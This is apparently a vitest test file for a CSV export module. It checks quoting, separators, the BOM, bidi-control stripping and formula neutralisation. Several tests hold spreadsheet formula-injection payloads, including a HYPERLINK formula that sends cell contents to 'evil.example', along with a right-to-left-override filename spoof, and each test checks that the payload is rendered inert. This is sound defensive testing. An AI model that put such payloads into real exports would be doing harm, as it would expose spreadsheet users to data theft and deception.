// The CSV tables (lib/export/csv.ts): RFC 4180 quoting, formula neutralisation, bidi controls,
// BOM and the separator per language; read back with an RFC 4180 parser written here.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_HEADERS, cookiesCsv, csvCell, historyCsv, requestsCsv, toCsv } from '@/lib/export/csv';
import type { Report } from '@/lib/verdict/report';
import { linktreeReport, profileReport } from '../helpers/jobcenter-case';

/** An RFC 4180 reader (quoted fields, doubled quotes, CRLF inside quotes). */
function parseCsv(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === sep) {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const body = (text: string) => {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return text.slice(1);
};

describe('csvCell', () => {
  it('prefixes cells a spreadsheet would run as a formula', () => {
    for (const payload of ['=HYPERLINK("http://evil","x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])
      expect(csvCell(payload, ',').replace(/^"/, '').startsWith("'")).toBe(true);
    expect(csvCell('a=b', ',')).toBe('a=b');
    // Our own numbers are never prefixed.
    expect(csvCell(-3, ',')).toBe('-3');
  });

  it('quotes as RFC 4180 says and strips bidi controls', () => {
    expect(csvCell('a;b', ';')).toBe('"a;b"');
    expect(csvCell('a;b', ',')).toBe('a;b');
    expect(csvCell('say "hi"', ',')).toBe('"say ""hi"""');
    expect(csvCell('two\r\nlines', ',')).toBe('"two\r\nlines"');
    expect(csvCell('\u202Egnp.exe\u202C', ',')).toBe('gnp.exe');
    expect(csvCell(null, ',')).toBe('');
  });

  it('property: any row reads back cell for cell (formula cells with their prefix), in both separators', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { minLength: 1, maxLength: 6 }),
        fc.constantFrom('de' as const, 'en' as const),
        (cells, lang) => {
          const sep = lang === 'de' ? ';' : ',';
          const parsed = parseCsv(body(toCsv(['h'], [cells], lang)), sep);
          const expected = cells.map((c) => {
            const s = c.replace(/[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/g, '');
            return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
          });
          expect(parsed[1]).toEqual(expected);
        },
      ),
      { numRuns: 100 },
    );
  });
});

describe('the tables', () => {
  it('third parties per visit: the expected columns, German with ";"', () => {
    const { text, rows } = requestsCsv([profileReport(), linktreeReport()], 'de');
    const parsed = parseCsv(body(text), ';');
    expect(parsed[0]).toEqual([...CSV_HEADERS.requests.de]);
    expect(rows).toBe(parsed.length - 1);
    const ga = parsed.find((r) => r[2] === 'www.google-analytics.com')!;
    expect(ga[0]).toBe(linktreeReport().url);
    expect(ga[3]).toBe('Google LLC');
    expect(ga[7]).toMatch(/^\d+$/);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('cookies: English with ",", a formula payload in a cookie name comes out inert', () => {
    const r = linktreeReport();
    const hostile: Report = {
      ...r,
      cookies: {
        ...r.cookies,
        items: [
          { ...r.cookies.items[0]!, name: '=HYPERLINK("https://evil.example/?"&A1,"click")' },
          ...r.cookies.items.slice(1),
        ],
      },
    };
    const { text } = cookiesCsv([hostile], 'en');
    const parsed = parseCsv(body(text), ',');
    expect(parsed[0]).toEqual([...CSV_HEADERS.cookies.en]);
    expect(parsed[1]![2]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"click")');
    expect(parsed.slice(1).every((row) => row.length === CSV_HEADERS.cookies.en.length)).toBe(true);
  });

  it('the whole history: one row per site', () => {
    const { text, rows } = historyCsv(
      [
        { site: 'linktr.ee', lastVisit: Date.parse(linktreeReport().visitedAt), report: linktreeReport() },
        { site: 'instagram.com', lastVisit: Date.parse(profileReport().visitedAt), report: profileReport() },
      ],
      'de',
    );
    const parsed = parseCsv(body(text), ';');
    expect(rows).toBe(2);
    expect(parsed[0]).toEqual([...CSV_HEADERS.history.de]);
    expect(parsed[1]).toEqual([
      'linktr.ee',
      linktreeReport().visitedAt,
      'rot',
      linktreeReport().authority.isAuthority ? 'ja' : 'nein',
      'Link-in-Bio-Seite',
      String(linktreeReport().requests.thirdPartyHosts.length),
      String(linktreeReport().cookies.total),
      linktreeReport()
        .findings.map((f) => f.id)
        .join(' '),
    ]);
  });
});
